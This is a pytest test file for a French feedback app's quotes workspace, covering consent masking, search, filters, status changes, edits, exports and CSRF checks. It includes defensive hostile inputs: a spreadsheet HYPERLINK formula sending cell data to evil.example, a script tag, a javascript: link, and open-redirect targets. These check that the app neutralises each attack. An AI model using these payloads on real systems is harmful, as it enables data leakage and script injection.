"""The quotes workspace as communication staff use it: filters, search, the status flow, edits, exports."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import pytest
from docx import Document
from openpyxl import load_workbook
from sqlalchemy import select, update

from feedback.db import db
from feedback.models import Answer, Axis, CommentAnalysis, Department, Modality, Quote, QuoteStatus, Response, Role
from feedback.quotes.queries import PER_PAGE
from tests.htmltree import parse
from tests.quotes.conftest import analysis_of

pytestmark = pytest.mark.usefixtures("every_comment_disclosed")


def shown(client, url: str) -> list[str]:
    page = client.get(url)
    assert page.status_code == 200, url
    return [node.text for node in parse(page.get_data(as_text=True)).find_all("blockquote", class_="comment-text")]


def test_only_comments_whose_author_consented_are_listed_masked(client, staff, make_speaker, make_session, comment):
    session = make_session(speakers=[make_speaker("Claire Martin")])
    comment(session, "Merci Claire Martin, échanges riches.", improve="Plus de pauses.")
    comment(session, "Un secret que je ne veux pas voir publié.", consent=False)
    assert sorted(shown(client, "/quotes/")) == ["Merci [nom], échanges riches.", "Plus de pauses."]
    html = client.get("/quotes/").get_data(as_text=True)
    assert "Claire Martin" not in html and "secret" not in html


def test_admins_also_see_the_unmasked_original(client, auth, make_user, make_speaker, make_session, comment):
    session = make_session(speakers=[make_speaker("Claire Martin")])
    comment(session, "Merci Claire Martin, échanges riches.")
    auth.login(make_user(Role.ADMIN))
    html = client.get("/quotes/").get_data(as_text=True)
    assert "Merci [nom], échanges riches." in html and "Merci Claire Martin, échanges riches." in html


def test_search_ignores_accents_and_case_on_both_engines(client, staff, droit, comment):
    comment(droit, "Le RÉSEAU des cités éducatives est précieux.")
    comment(droit, "Un réseau de pairs très utile.")
    comment(droit, "Des outils concrets, une œuvre collective.")
    assert len(shown(client, "/quotes/?q=reseau")) == 2
    assert len(shown(client, "/quotes/?q=R%C3%A9seau")) == 2
    assert len(shown(client, "/quotes/?q=re%CC%81seau")) == 2  # "é" typed as e + combining accent
    assert shown(client, "/quotes/?q=oeuvre") == ["Des outils concrets, une œuvre collective."]
    assert shown(client, "/quotes/?q=%C5%93uvre+COLLECTIVE") == ["Des outils concrets, une œuvre collective."]
    assert shown(client, "/quotes/?q=%25") == []  # a LIKE wildcard is searched as a character
    assert shown(client, "/quotes/?q=_") == []


def test_filters_from_the_url(client, staff, droit, make_training, make_session, comment):
    webinar = make_training("Webinaire QPV", Axis.CITY_POLICY, Modality.WEBINAR)
    other = make_session(webinar, start_date=date(2024, 6, 1), department=Department.VAL_DE_MARNE)
    comment(droit, "Des échanges riches et des cas pratiques concrets pour le terrain.")
    comment(droit, "Trop long.")
    comment(other, "Échanges riches, merci.")
    comment(other, "Trop de théorie, pas assez de cas pratiques.")
    all_four = 4
    assert len(shown(client, "/quotes/")) == all_four
    assert len(shown(client, "/quotes/?annee=2025")) == 2
    assert len(shown(client, f"/quotes/?formation={droit.training_id}")) == 2
    assert len(shown(client, "/quotes/?axe=politique-ville")) == 2
    assert len(shown(client, "/quotes/?modalite=webinaire&dept=94")) == 2
    assert shown(client, "/quotes/?dept=91&ton=negative") == ["Trop long."]
    assert shown(client, "/quotes/?longueur=citation&annee=2025") == [
        "Des échanges riches et des cas pratiques concrets pour le terrain."
    ]
    assert shown(client, "/quotes/?longueur=court&annee=2024") == ["Échanges riches, merci."]
    assert sorted(shown(client, "/quotes/?theme=cas+pratique")) == sorted(
        [
            "Des échanges riches et des cas pratiques concrets pour le terrain.",
            "Trop de théorie, pas assez de cas pratiques.",
        ]
    )
    assert len(shown(client, "/quotes/?du=2024-01-01&au=2024-12-31")) == 2
    page = client.get("/quotes/?axe=inconnu&annee=abc&ton=joyeux")
    assert page.status_code == 200 and "Filtres non reconnus, ignorés : annee, axe, ton." in page.get_data(as_text=True)


def test_pages_of_comments(client, staff, droit, comment):
    for number in range(PER_PAGE + 5):
        comment(droit, f"Commentaire numéro {number}.")
    first = shown(client, "/quotes/")
    assert len(first) == PER_PAGE and first[0] == f"Commentaire numéro {PER_PAGE + 4}."  # newest first
    assert len(shown(client, "/quotes/?page=2")) == 5
    assert shown(client, "/quotes/?page=99") == shown(client, "/quotes/?page=2")


def _move(client, answer_id: int, status: str, follow: bool = True):
    return client.post(
        f"/quotes/{answer_id}/statut",
        data={"status": status, "next": "/quotes/?statut=new"},
        follow_redirects=follow,
    )


def test_the_status_flow_keeps_who_and_when(client, staff, droit, comment):
    answer_id = comment(droit, "Une journée très riche, merci.")["liked"]
    assert _move(client, answer_id, "approved").status_code == 200  # new -> approved skips the shortlist
    assert db.session.get(Quote, answer_id) is None or db.session.get(Quote, answer_id).status == QuoteStatus.NEW

    moved = _move(client, answer_id, "shortlisted", follow=False)
    assert moved.status_code == 302 and moved.headers["Location"].endswith("/quotes/?statut=new")
    quote = db.session.get(Quote, answer_id)
    assert quote.status == QuoteStatus.SHORTLISTED and quote.status_by_id == staff.id and quote.status_dt is not None
    assert shown(client, "/quotes/?statut=shortlisted") == ["Une journée très riche, merci."]
    assert shown(client, "/quotes/?statut=new") == []

    _move(client, answer_id, "approved")
    db.session.expire_all()
    assert db.session.get(Quote, answer_id).status == QuoteStatus.APPROVED
    page = client.get(f"/quotes/{answer_id}").get_data(as_text=True)
    assert "Approuvé par Camille Com" in page

    _move(client, answer_id, "shortlisted")
    _move(client, answer_id, "rejected")
    db.session.expire_all()
    assert db.session.get(Quote, answer_id).status == QuoteStatus.REJECTED
    refused = _move(client, answer_id, "approved")
    assert "Passage impossible" in refused.get_data(as_text=True)
    db.session.expire_all()
    assert db.session.get(Quote, answer_id).status == QuoteStatus.REJECTED
    assert _move(client, answer_id, "bogus").status_code == 200  # an unknown status: said, nothing changed
    db.session.expire_all()
    assert db.session.get(Quote, answer_id).status == QuoteStatus.REJECTED
    edited = client.post(f"/quotes/{answer_id}/texte", data={"text": "Autre texte."})
    assert "Une citation écartée ne se modifie pas" in edited.get_data(as_text=True)
    db.session.expire_all()
    assert db.session.get(Quote, answer_id).text is None


def test_redirects_stay_inside_the_workspace(client, staff, droit, comment):
    answer_id = comment(droit, "Très bien.")["liked"]
    for target in ("https://evil.example/", "//evil.example/quotes", "/manage/trainings"):
        moved = client.post(f"/quotes/{answer_id}/statut", data={"status": "shortlisted", "next": target})
        assert moved.headers["Location"].endswith(f"/quotes/{answer_id}")


def test_editing_a_quote_keeps_the_original(client, staff, droit, comment):
    original = "Super journée , des echanges trés riches avec les collègues du 91 !!"
    answer_id = comment(droit, original)["liked"]
    saved = client.post(f"/quotes/{answer_id}/texte", data={"text": "Des échanges très riches avec les collègues."})
    assert saved.status_code == 302
    assert shown(client, "/quotes/") == ["Des échanges très riches avec les collègues."]
    page = parse(client.get(f"/quotes/{answer_id}").get_data(as_text=True))
    assert original in [node.text for node in page.find_all(class_="original")]
    assert db.session.get(Answer, answer_id).text == original
    assert analysis_of(answer_id).masked_text == original
    quote = db.session.get(Quote, answer_id)
    assert quote.edited_by_id == staff.id and quote.edited_dt is not None and quote.status == QuoteStatus.NEW
    # An empty text goes back to the comment as written.
    client.post(f"/quotes/{answer_id}/texte", data={"text": ""})
    assert shown(client, "/quotes/") == [original]
    too_long = client.post(f"/quotes/{answer_id}/texte", data={"text": "x" * 2001})
    assert too_long.status_code == 422 and "2000 caractères au plus" in too_long.get_data(as_text=True)


def test_an_approved_quote_carries_an_attribution_built_from_data(client, staff, droit, make_session, comment):
    with_profile = comment(droit, "Une très belle journée.", profile="association")["liked"]
    without = comment(make_session(start_date=date(2024, 2, 1)), "Utile et concret.")["liked"]
    for answer_id in (with_profile, without):
        _move(client, answer_id, "shortlisted")
        _move(client, answer_id, "approved")
    html = client.get("/quotes/?statut=approved").get_data(as_text=True)
    assert "— Association, formation « Droit des étrangers », Essonne, 2025" in html
    assert "— Participant·e, formation « Droit des étrangers », 2024" in html


def _approve(client, answer_id: int) -> None:
    _move(client, answer_id, "shortlisted")
    _move(client, answer_id, "approved")


def test_a_withdrawn_consent_removes_the_quote_from_pages_exports_and_actions(client, staff, droit, comment):
    answer_id = comment(droit, "Une très belle journée, merci à toute l'équipe.")["liked"]
    _approve(client, answer_id)
    assert "Une très belle journée" in client.get("/quotes/citations.csv").get_data(as_text=True)

    response_id = db.session.scalar(select(Answer.response_id).where(Answer.id == answer_id))
    db.session.execute(update(Response).where(Response.id == response_id).values(consents_to_quote=False))
    db.session.commit()
    assert shown(client, "/quotes/") == []
    assert shown(client, "/quotes/?statut=approved") == []
    for url in ("/quotes/citations.csv", "/quotes/citations.md"):
        assert "Une très belle journée" not in client.get(url).get_data(as_text=True)
    docx = Document(io.BytesIO(client.get("/quotes/citations.docx").data))
    assert not any("belle journée" in p.text for p in docx.paragraphs)
    assert client.get(f"/quotes/{answer_id}").status_code == 404
    assert client.post(f"/quotes/{answer_id}/statut", data={"status": "shortlisted"}).status_code == 404
    assert client.post(f"/quotes/{answer_id}/texte", data={"text": "x"}).status_code == 404
    assert "belle journée" not in client.get("/quotes/suggestions?annee=2025").get_data(as_text=True)


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1;"Cliquez") <script>alert(1)</script> [lien](javascript:x) !'


def test_exports_of_approved_quotes_open_back_with_hostile_text_neutralised(client, staff, droit, comment):
    good = comment(droit, "Des échanges riches et des cas pratiques.", profile="association")["liked"]
    hostile = comment(droit, "Au top.")["liked"]
    not_approved = comment(droit, "Encore à trier.")["liked"]
    _approve(client, good)
    client.post(f"/quotes/{hostile}/texte", data={"text": HOSTILE})
    _approve(client, hostile)

    csv_page = client.get("/quotes/citations.csv")
    assert csv_page.headers["Content-Disposition"].startswith('attachment; filename="citations-approuvees')
    rows = list(csv.reader(io.StringIO(csv_page.data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:2] == ["Citation", "Attribution"]
    cells = {row[0]: row for row in rows[1:]}
    assert len(cells) == 2 and "Encore à trier." not in csv_page.get_data(as_text=True) and not_approved
    assert "Des échanges riches et des cas pratiques." in cells
    assert cells["Des échanges riches et des cas pratiques."][1] == (
        "— Association, formation « Droit des étrangers », Essonne, 2025"
    )
    assert "'" + HOSTILE in cells  # a formula is written as text
    assert cells["'" + HOSTILE][2] == "Au top."  # the original, next to the edited quote

    sheet = load_workbook(io.BytesIO(client.get("/quotes/citations.xlsx").data)).active
    values = [cell.value for row in sheet.iter_rows() for cell in row]
    assert "'" + HOSTILE in values
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)

    content = client.get("/quotes/citations.docx").data
    document = Document(io.BytesIO(content))
    texts = [paragraph.text for paragraph in document.paragraphs]
    assert f"« {HOSTILE} »" in texts and "« Des échanges riches et des cas pratiques. »" in texts
    assert "— Association, formation « Droit des étrangers », Essonne, 2025" in texts
    xml = zipfile.ZipFile(io.BytesIO(content)).read("word/document.xml").decode()
    assert "w:hyperlink" not in xml and "w:fldSimple" not in xml and "w:instrText" not in xml

    markdown = client.get("/quotes/citations.md").get_data(as_text=True)
    assert "<script>" not in markdown and "\\<script\\>" in markdown and "\\[lien\\](javascript:x)" in markdown

    page = client.get("/quotes/?statut=approved").get_data(as_text=True)
    assert "<script>alert(1)</script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def test_suggestions_follow_the_rules(client, staff, droit, comment):
    good = "Des échanges riches avec des collègues de terrain, une journée très utile."
    constructive = "Il faudrait plus de temps pour les échanges riches entre collègues de terrain."
    comment(droit, good)
    comment(droit, constructive)
    comment(droit, "Échanges riches.")  # too short
    comment(droit, "Des échanges riches avec des collègues de terrain, une journée très utile")  # no full stop
    comment(droit, "Des échanges riches avec Madame Durand, une journée très utile pour le terrain.")  # masked name
    comment(droit, "Des échanges riches avec des collègues de terrain, une journée très utile !", consent=False)
    rejected = comment(droit, "Des échanges riches et une journée vraiment très utile pour nous tous.")["liked"]
    _move(client, rejected, "rejected")
    html = client.get("/quotes/suggestions?annee=2025").get_data(as_text=True)
    page = parse(html)
    heading = page.find("h2")
    assert heading is not None and heading.text.startswith("échanges")
    suggested = [node.text for node in page.find_all("blockquote", class_="comment-text")]
    assert sorted(set(suggested)) == sorted([good, constructive])


def test_a_theme_word_cloud_is_drawn_once_then_read_from_the_cache(app, client, staff, droit, comment, tmp_path):
    app.instance_path, saved = str(tmp_path), app.instance_path
    try:
        for text in ("Échanges riches.", "Des échanges riches.", "Cas pratiques.", "Des cas pratiques utiles."):
            comment(droit, text)
        first = client.get("/quotes/nuage.svg?annee=2025")
        assert first.status_code == 200 and first.mimetype == "image/svg+xml"
        assert "échanges" in first.get_data(as_text=True)
        files = set((tmp_path / "wordclouds").iterdir())
        assert len(files) == 2  # the picture of these counts, and this scope's pointer to it
        assert client.get("/quotes/nuage.svg?annee=2025").data == first.data
        assert set((tmp_path / "wordclouds").iterdir()) == files
        comment(droit, "Échanges riches encore.")  # a new comment: drawn again
        assert client.get("/quotes/nuage.svg?annee=2025").status_code == 200
        assert len(set((tmp_path / "wordclouds").iterdir())) == 4
        png = client.get("/quotes/nuage.png?annee=2025&telecharger=1")
        assert png.mimetype == "image/png" and png.headers["Content-Disposition"].endswith('nuage-themes.png"')
    finally:
        app.instance_path = saved


def test_the_themes_page_lists_themes_and_those_that_grew(client, staff, droit, make_session, comment):
    before = make_session(droit.training, start_date=date(2024, 3, 1))
    for text in ("Échanges riches.", "Des échanges riches.", "Cas pratiques utiles.", "Pas assez de cas pratiques."):
        comment(droit, text)
    comment(before, "Échanges riches.")
    comment(before, "Échanges riches, merci.")
    page = parse(client.get("/quotes/themes?annee=2025").get_data(as_text=True))
    table = page.find("table")
    rows = {
        row.find("th").text: [td.text for td in row.find_all("td")] for row in table.find_all("tr") if row.find("th")
    }
    assert rows["échanges"][:2] == ["2", "50 %"]
    assert rows["cas pratiques"][:2] == ["2", "50 %"]
    # Each theme's own tone: « échanges » praised twice; « cas pratiques » praised once and criticised once.
    assert rows["échanges"][2].startswith("salué dans 2 commentaires")
    assert rows["cas pratiques"][2].startswith("critiqué dans 1 commentaire, salué dans 1 commentaire")
    emerging = page.by_id("emerging-title")
    assert emerging is not None and "2024" in emerging.text
    assert "cas pratiques" in page.find("section").text


def test_status_changes_need_the_csrf_token(client, csrf_enabled, make_user, droit, comment):
    answer_id = comment(droit, "Très bien.")["liked"]
    user = make_user(Role.COMMUNICATION)
    login_page = client.get("/login").get_data(as_text=True)
    token = parse(login_page).find("input", name="csrf_token").get("value")
    client.post("/login", data={"email": user.email, "password": "correct-horse-battery", "csrf_token": token})
    assert client.post(f"/quotes/{answer_id}/statut", data={"status": "shortlisted"}).status_code == 400
    assert db.session.get(Quote, answer_id) is None
    page = client.get("/quotes/").get_data(as_text=True)
    form = parse(page).find("form", action=f"/quotes/{answer_id}/statut")
    data = {node.get("name"): node.get("value") for node in form.find_all("input")}
    assert client.post(f"/quotes/{answer_id}/statut", data=data).status_code == 302
    assert db.session.get(Quote, answer_id).status == QuoteStatus.SHORTLISTED


def test_unanalysed_or_unknown_comments_are_404(client, staff):
    assert client.get("/quotes/999999").status_code == 404
    assert client.post("/quotes/999999/statut", data={"status": "shortlisted"}).status_code == 404
    assert db.session.scalar(select(CommentAnalysis.answer_id)) is None
